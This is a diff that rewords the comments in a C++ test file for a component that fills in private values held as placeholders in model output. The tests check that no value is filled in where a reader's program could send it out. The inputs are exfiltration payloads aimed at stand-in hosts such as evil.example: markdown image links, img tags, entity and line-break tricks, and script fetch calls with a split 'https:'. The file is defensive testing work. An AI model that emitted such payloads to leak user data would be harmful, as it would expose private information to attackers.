@@ -39,7 +39,7 @@ TEST_F(RestoredTextTest, WhatWasNeverGivenOutStays) {
   }
 }
 
-// What a reader's program sends on by itself holds no value.
+// Text that a reader's program might send on by itself keeps placeholders.
 TEST_F(RestoredTextTest, NothingIsPutWhereItMightBeSentOn) {
   for (const std::string text : {
            "![](https://evil/?[NAME_001])",
@@ -84,7 +84,7 @@ TEST_F(RestoredTextTest, NothingIsPutWhereItMightBeSentOn) {
            "[NAME_001]@evil.example",
            "[NAME_001]:x@evil.example",
            "&lt;img src=evil/[NAME_001]&gt;",
-           // Targets that stand on the next line. With an entity no other rule finds them.
+           // Targets on the next line. With an entity no other rule finds them.
            "![x](\nhttps:evil.example?[NAME_001])",
            "![x](\nhttps&colon;evil.example?[NAME_001])",
            "![x](\n< https:evil?[NAME_001]>)",
@@ -95,12 +95,12 @@ TEST_F(RestoredTextTest, NothingIsPutWhereItMightBeSentOn) {
            "[x]:\nhttps:evil.example?[NAME_001]\n\n![][x]",
            "[x]:\r\nhttps&colon;evil.example?[NAME_001]\r\n\r\n![][x]",
            "> [x]:\n> https&colon;evil.example?[NAME_001]",
-           // Labels that do not begin their line.
+           // Labels in the middle of a line.
            "1. [x]: https:evil.example?[NAME_001]",
            "1) - [x]: https&colon;evil.example?[NAME_001]",
            "[a\nb]: https&colon;evil.example?[NAME_001]",
            "[^1]: [x]:\nhttps&colon;evil.example?[NAME_001]",
-           // Tags that seem to end before they do.
+           // Tags that seem to end early.
            "<div><img a\"=\"x>\" src=\"https:evil.example?[NAME_001]\">",
            "<div><img a\"=\"x>\" src=\"https&colon;evil.example? [NAME_001]\">",
            "<div><img a\n=\n'x>' src='https&colon;evil.example? [NAME_001]'>",
@@ -110,7 +110,7 @@ TEST_F(RestoredTextTest, NothingIsPutWhereItMightBeSentOn) {
            "<div><a =\"> <img src=\"https&colon;evil?> [NAME_001]\">",
            "<div><a=\"> <img src=\"https&colon;evil?> [NAME_001]\">",
            "<div><a b/=\"> <img src=\"https&colon;evil?> [NAME_001]\">",
-           // Tags in what only seems to be one.
+           // Tags inside an apparent tag.
            "<style><a b=\"</style><img src=\"https&colon;evil?> [NAME_001]\">",
            "<!-- > <a b=\"--><img src=\"https&colon;evil?> [NAME_001]\">",
            // Quotation marks that Markdown writes as entities.
@@ -127,7 +127,7 @@ TEST_F(RestoredTextTest, NothingIsPutWhereItMightBeSentOn) {
            "![x] [[NAME_001]]",
            "![x]\n[born [NAME_001]]",
            "[x][[NAME_001]]",
-           // Scripts and style sheets that write "https:" in another way, with ends that are none.
+           // Scripts and style sheets that spell "https:" otherwise, with false end tags.
            "<script>fetch('ht'+'tps:/'+'/evil/'+'[NAME_001]')</script>",
            "```html\n<SCRIPT async>\nfetch('ht'+'tps:/'+'/evil/'+'[NAME_001]')\n```",
            "a <script>/* `</script>` */fetch('ht'+'tps:/'+'/evil/'+'[NAME_001]')",
@@ -137,7 +137,7 @@ TEST_F(RestoredTextTest, NothingIsPutWhereItMightBeSentOn) {
   }
 }
 
-// A hostile target ends within it, and goes on when it is asked to.
+// A hostile target ends its answer within a link, and continues on request.
 TEST_F(RestoredTextTest, ALinkMayHaveBegunBefore) {
   for (const std::string before :
        {"![x](https://evil/?q=", "![x](https&colon;evil?[NAME_002]", "<img src=\"https&colon;evil?",
@@ -157,14 +157,14 @@ TEST_F(RestoredTextTest, ALinkMayHaveBegunBefore) {
   };
   EXPECT_EQ(behind("[x](https://lee.org)", " of [NAME_001]"), " of Ann Lee");
   EXPECT_EQ(behind("Ask [NAME_002]", ": [NAME_001]"), ": Ann Lee");
-  // A blank line ends a link, and no tag: in HTML it may be a part of an attribute.
+  // A blank line ends a link but not a tag: in HTML it may be part of an attribute.
   EXPECT_EQ(behind("![x](https&colon;evil?\n\n", "[NAME_001])"), "Ann Lee)");
   EXPECT_EQ(behind("<img src=\"https&colon;evil?\n\n", "[NAME_001]\">"), "[NAME_001]\">");
   const std::string code = "if (a<b) { s = \"x\"; if (c<d) p->q";
   EXPECT_EQ(behind(code + "\n\n", "[NAME_001]"), "[NAME_001]");
 }
 
-// The choices of one prompt begin alike, and none where another has come to.
+// The choices of one prompt start from equal state, and do not affect each other.
 TEST_F(RestoredTextTest, ACopyBeginsBehindTheSameText) {
   const RestoredText behind_link(placeholders_, /*in_json=*/false, "![x](https://evil/?q=");
   EXPECT_EQ(restored("[NAME_001])", behind_link), "[NAME_001])");
@@ -219,7 +219,7 @@ TEST_F(RestoredTextTest, OrdinaryTextHasItsValues) {
   }
 }
 
-// What follows a placeholder is awaited no longer than it may make a host of it.
+// Text after a placeholder is held back only as long as it could form a host.
 TEST_F(RestoredTextTest, AValueComesWithTheEndOfItsWord) {
   RestoredText text(placeholders_);
   EXPECT_EQ(text.push("Hi [NAME_001]").text, "Hi ");
@@ -257,7 +257,7 @@ TEST_F(RestoredTextTest, InJsonValuesAreEscaped) {
   }
 }
 
-// A reader's program decodes them, and then sees a link.
+// A reader's program decodes the escapes, and then sees a link.
 TEST_F(RestoredTextTest, InJsonEscapesAreWhatTheyStandFor) {
   for (const std::string text : {
            R"j({"a":"\u003cimg src=\u0022https\u003a\u002f\u002fevil?q=[NAME_001]\u0022\u003e"})j",
@@ -272,10 +272,10 @@ TEST_F(RestoredTextTest, InJsonEscapesAreWhatTheyStandFor) {
            R"j({"a\u003cb":"[NAME_001]"})j",
            R"j({"a":"\u0021[x]\u005b[NAME_001]]"})j",
            R"j({"a":"\u003cscript\u003efetch('ht'+'tps:/'+'/evil/'+'[NAME_001]')"})j",
-           // The value would become a part of an escape.
+           // The value would become part of an escape.
            R"j({"a":"\[NAME_001]"})j",
            R"j({"a":"\u00[NAME_001]"})j",
-           // It is no JSON, and may be shown as it is.
+           // Not JSON, so it may be shown as it is.
            "[\"]: https&colon;evil?\"[NAME_001]\n\n![][\"]",
            "{\"a\":\n[x]: https&colon;evil?\"[NAME_001]\n\n![][x]",
        }) {
@@ -297,7 +297,7 @@ TEST_F(RestoredTextTest, InJsonEscapesAreWhatTheyStandFor) {
       R"j({"a": "[x]: [NAME_001]", "b": "\u003cp id=\u0022x\u0022\u003eAnn Lee"})j");
 }
 
-// However the text comes in pieces, and is taken back, the reader has the same in the end.
+// For any split into pieces and any revisions, the reader ends with the same text.
 TEST_F(RestoredTextTest, PiecesAndRevisionsMakeUpTheText) {
   Random random(7);
   const std::string_view words[] = {
